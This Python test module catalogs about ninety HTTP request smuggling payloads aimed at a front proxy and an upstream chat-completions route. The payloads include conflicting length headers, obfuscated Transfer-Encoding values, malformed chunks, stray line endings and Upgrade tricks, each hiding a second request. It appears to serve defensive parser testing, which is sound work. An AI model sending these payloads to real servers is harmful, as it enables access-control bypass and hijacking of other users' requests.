"""Requests that front and upstream might understand differently; each one hides a second request."""

from typing import NamedTuple

# Stands in the attacks for the request that they hide, and for its length.
HIDDEN = b"{hidden}"
# What the front is asked for on a connection that survives the attack, and which ends with it.
LAST = b"GET /upstream/m/health HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"
CHAT = b'{"model":"m","messages":[{"role":"user","content":"hi"}],"max_tokens":1}'
ROUTES = (b"/v1/chat/completions", b"/upstream/m/v1/chat/completions")


class Attack(NamedTuple):
    """One request with more in it than it seems.

    Attributes:
        head: without the empty line; ``{route}`` stands for the target, ``{length}`` for the length of ``CHAT``.
        body: all that follows.
        waits: the front waits for more, so the client must hang up.
        passes: how often a right request for the route is in it, which the upstream may get.
    """

    head: bytes
    body: bytes
    waits: bool = False
    passes: int = 0

    def request(self, route, hidden):
        """The bytes to send."""
        head = self.head.replace(b"{route}", route).replace(b"{length}", b"%d" % len(CHAT))
        whole = head.replace(b"{hidden length}", b"%d" % len(hidden)) + b"\r\n" + self.body
        return whole.replace(HIDDEN, hidden)


def chunk(data, size=None):
    """A chunk, with its true size or another text in its place."""
    return b"%b\r\n%b\r\n" % (b"%x" % len(data) if size is None else size, data)


POST = b"POST {route} HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n"
LENGTH = b"Content-Length: {length}\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
END = b"0\r\n\r\n"
ALL_CHUNKS = chunk(CHAT) + END


def coded(value):
    """A request whose Transfer-Encoding has a strange value, beside a length; the chunks end before the length does."""
    return Attack(POST + LENGTH + b"Transfer-Encoding:" + value + b"\r\n", END + HIDDEN)


ATTACKS = {
    # Two lengths.
    "CL before TE": Attack(POST + LENGTH + CHUNKED, END + HIDDEN),
    "TE before CL": Attack(POST + CHUNKED + LENGTH, END + HIDDEN),
    "CL.TE with a whole body": Attack(POST + LENGTH + CHUNKED, CHAT + HIDDEN),
    "two lengths": Attack(POST + b"Content-Length: 0\r\n" + LENGTH, CHAT + HIDDEN),
    "two lengths, the long one first": Attack(POST + LENGTH + b"Content-Length: 0\r\n", CHAT + HIDDEN),
    "the same length twice": Attack(POST + LENGTH + LENGTH, CHAT + HIDDEN),
    "a list of lengths": Attack(POST + b"Content-Length: 0, {length}\r\n", CHAT + HIDDEN),
    "a list of one length": Attack(POST + b"Content-Length: {length}, {length}\r\n", CHAT + HIDDEN),
    "a length in hexadecimal": Attack(POST + b"Content-Length: 0x1\r\n", CHAT + HIDDEN),
    "a length with a sign": Attack(POST + b"Content-Length: +{length}\r\n", CHAT + HIDDEN),
    "a negative length": Attack(POST + b"Content-Length: -1\r\n", CHAT + HIDDEN),
    "a length with a separator": Attack(POST + b"Content-Length: 7_1\r\n", CHAT + HIDDEN),
    "a length of 64 bits and more": Attack(POST + b"Content-Length: 18446744073709551617\r\n", b"{" + HIDDEN),
    "an empty length": Attack(POST + b"Content-Length:\r\n", CHAT + HIDDEN),
    "a length in other digits": Attack(POST + "Content-Length: \u0661\r\n".encode(), CHAT + HIDDEN),
    "a length with a space in it": Attack(POST + b"Content-Length: 7 1\r\n", CHAT + HIDDEN),
    # Other codings.
    "TE xchunked": coded(b" xchunked"),
    "TE chunked, identity": coded(b" chunked, identity"),
    "TE identity, chunked": coded(b" identity, chunked"),
    "TE gzip, chunked": coded(b" gzip, chunked"),
    "TE in quotes": coded(b' "chunked"'),
    "TE with a parameter": coded(b" chunked;q=1"),
    "TE with a vertical tab": coded(b" \x0bchunked"),
    "TE with a tab": coded(b"\tchunked"),
    "TE with spaces behind": coded(b" chunked   "),
    "TE empty": coded(b""),
    "TE in capitals": coded(b" CHUNKED"),
    "TE twice": Attack(POST + CHUNKED + CHUNKED, ALL_CHUNKS + HIDDEN),
    "TE twice, one strange": Attack(POST + CHUNKED + b"Transfer-Encoding: x\r\n", ALL_CHUNKS + HIDDEN),
    "TE with an underscore": Attack(POST + LENGTH + b"Transfer_Encoding: chunked\r\n", CHAT, passes=1),
    "TE named by Connection": Attack(POST + CHUNKED + b"Connection: Transfer-Encoding\r\n", ALL_CHUNKS, passes=1),
    "CL named by Connection": Attack(POST + LENGTH + b"Connection: Content-Length\r\n", CHAT, passes=1),
    "TE in HTTP/1.0": Attack(b"POST {route} HTTP/1.0\r\nHost: h\r\n" + CHUNKED, ALL_CHUNKS + HIDDEN),
    # Lines.
    "folded TE": Attack(POST + LENGTH + b"Transfer-Encoding:\r\n chunked\r\n", END + HIDDEN),
    "folded header": Attack(POST + LENGTH + b"X: a\r\n b\r\n", CHAT + HIDDEN),
    "folded first header": Attack(b"POST {route} HTTP/1.1\r\n Host: h\r\n" + LENGTH, CHAT + HIDDEN),
    "space before the colon": Attack(POST + LENGTH + b"Transfer-Encoding : chunked\r\n", END + HIDDEN),
    "tab before the colon": Attack(POST + b"Content-Length\t: 0\r\n" + LENGTH, CHAT + HIDDEN),
    "no name": Attack(POST + LENGTH + b": x\r\n", CHAT + HIDDEN),
    "no colon": Attack(POST + LENGTH + b"Transfer-Encoding\r\n", CHAT + HIDDEN),
    "LF alone": Attack(POST + LENGTH + b"X: a\nTransfer-Encoding: chunked\r\n", END + HIDDEN),
    "LF ends the head": Attack(POST + LENGTH + b"X: a\n\n", HIDDEN),
    "LF everywhere": Attack((POST + LENGTH).replace(b"\r\n", b"\n"), CHAT + HIDDEN),
    "CR alone": Attack(POST + LENGTH + b"X: a\rTransfer-Encoding: chunked\r\n", END + HIDDEN),
    "CR CR LF": Attack(POST + LENGTH + b"X: a\r\r\n", CHAT + HIDDEN),
    "NUL in a value": Attack(POST + LENGTH + b"X: a\0b\r\n", CHAT + HIDDEN),
    "NUL in a name": Attack(POST + LENGTH + b"Transfer-Encoding\0: chunked\r\n", END + HIDDEN),
    # Chunks.
    "chunk extension": Attack(POST + CHUNKED, chunk(CHAT, b"%x;a=b" % len(CHAT)) + END, passes=1),
    "chunk extension with LF": Attack(POST + CHUNKED, chunk(CHAT, b"%x;\n" % len(CHAT)) + END + HIDDEN),
    "chunk extension with CR": Attack(POST + CHUNKED, chunk(CHAT, b"%x;a\rb" % len(CHAT)) + END + HIDDEN),
    "chunk size with a sign": Attack(POST + CHUNKED, chunk(CHAT, b"+%x" % len(CHAT)) + END + HIDDEN),
    "chunk size with 0x": Attack(POST + CHUNKED, chunk(CHAT, b"0x%x" % len(CHAT)) + END + HIDDEN),
    "chunk size with a space before": Attack(POST + CHUNKED, chunk(CHAT, b" %x" % len(CHAT)) + END + HIDDEN),
    "chunk size of 64 bits and more": Attack(POST + CHUNKED, chunk(CHAT, b"1%016x" % len(CHAT)) + END + HIDDEN),
    "chunk size with zeros": Attack(POST + CHUNKED, chunk(CHAT, b"000000%x" % len(CHAT)) + END, passes=1),
    "chunk size without digits": Attack(POST + CHUNKED, chunk(CHAT, b"") + END + HIDDEN),
    "chunk ended by LF": Attack(POST + CHUNKED, b"%x\n%b\n0\n\n" % (len(CHAT), CHAT) + HIDDEN),
    "chunk longer than its size": Attack(POST + CHUNKED, chunk(CHAT, b"2") + END + HIDDEN),
    "last chunk of many zeros": Attack(POST + CHUNKED, chunk(CHAT) + b"0000\r\n\r\n", passes=1),
    "trailers": Attack(POST + CHUNKED, chunk(CHAT) + b"0\r\nX: y\r\n\r\n", passes=1),
    "trailers that frame": Attack(POST + CHUNKED, chunk(CHAT) + b"0\r\nContent-Length: 90\r\n\r\n"),
    "trailer that folds": Attack(POST + CHUNKED, chunk(CHAT) + b"0\r\nX: a\r\n b\r\n\r\n" + HIDDEN),
    "request in a trailer": Attack(POST + CHUNKED, chunk(CHAT) + b"0\r\n" + HIDDEN),
    # Targets, versions and hosts.
    "absolute form": Attack(POST.replace(b"{route}", b"http://other{route}") + LENGTH, CHAT, passes=1),
    "space in the target": Attack(POST.replace(b"{route}", b"{route}?a b") + LENGTH, CHAT + HIDDEN),
    "request line in the target": Attack(
        POST.replace(b"{route}", b"{route}?a HTTP/1.1\rHost: h") + LENGTH, CHAT + HIDDEN
    ),
    "encoded request in the target": Attack(
        POST.replace(b"{route}", b"{route}?a%20HTTP/1.1%0d%0aX:%20y%0d%0a%0d%0aGET%20/smuggled") + LENGTH,
        CHAT,
        passes=1,
    ),
    "two hosts": Attack(POST + b"Host: other\r\n" + LENGTH, CHAT + HIDDEN),
    "HTTP/1.2": Attack(POST.replace(b"1.1", b"1.2") + LENGTH, CHAT + HIDDEN),
    "HTTP/0.9": Attack(b"POST {route}\r\n", CHAT + HIDDEN),
    "HTTP/11": Attack(POST.replace(b"1.1", b"11") + LENGTH, CHAT + HIDDEN),
    "preface of HTTP/2": Attack(b"PRI * HTTP/2.0\r\n", b"SM\r\n\r\n" + HIDDEN),
    # What follows.
    "Upgrade": Attack(POST + LENGTH + b"Connection: Upgrade\r\nUpgrade: x\r\n", CHAT + HIDDEN),
    "Upgrade to h2c": Attack(
        POST + LENGTH + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
        CHAT + HIDDEN,
    ),
    "Upgrade to WebSocket": Attack(
        POST.replace(b"POST", b"GET")
        + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAA\r\n",
        HIDDEN,
        waits=True,
    ),
    "Expect and the body at once": Attack(POST + LENGTH + b"Expect: 100-continue\r\n", CHAT, passes=1),
    "body of a GET": Attack(POST.replace(b"POST", b"GET") + b"Content-Length: {hidden length}\r\n", HIDDEN),
    "body of a HEAD": Attack(POST.replace(b"POST", b"HEAD") + b"Content-Length: {hidden length}\r\n", HIDDEN),
    "body of a DELETE": Attack(POST.replace(b"POST", b"DELETE") + b"Content-Length: {hidden length}\r\n", HIDDEN),
    "body of an unknown method": Attack(
        POST.replace(b"POST", b"FROB") + b"Content-Length: {hidden length}\r\n", HIDDEN
    ),
    "body that is refused": Attack(POST + b"Content-Length: {hidden length}\r\n", HIDDEN),
    "CONNECT": Attack(b"CONNECT h:80 HTTP/1.1\r\nHost: h\r\n", HIDDEN),
    "request behind a request": Attack(POST + LENGTH, CHAT + HIDDEN, passes=1),
    "body cut short": Attack(POST + b"Content-Length: 1000\r\n", CHAT + HIDDEN, waits=True),
    "chunks cut short": Attack(POST + CHUNKED, chunk(CHAT) + b"ff\r\n" + HIDDEN, waits=True),
    "blank lines before the request": Attack(b"\r\n\r\n" + POST + LENGTH, CHAT, passes=1),
}
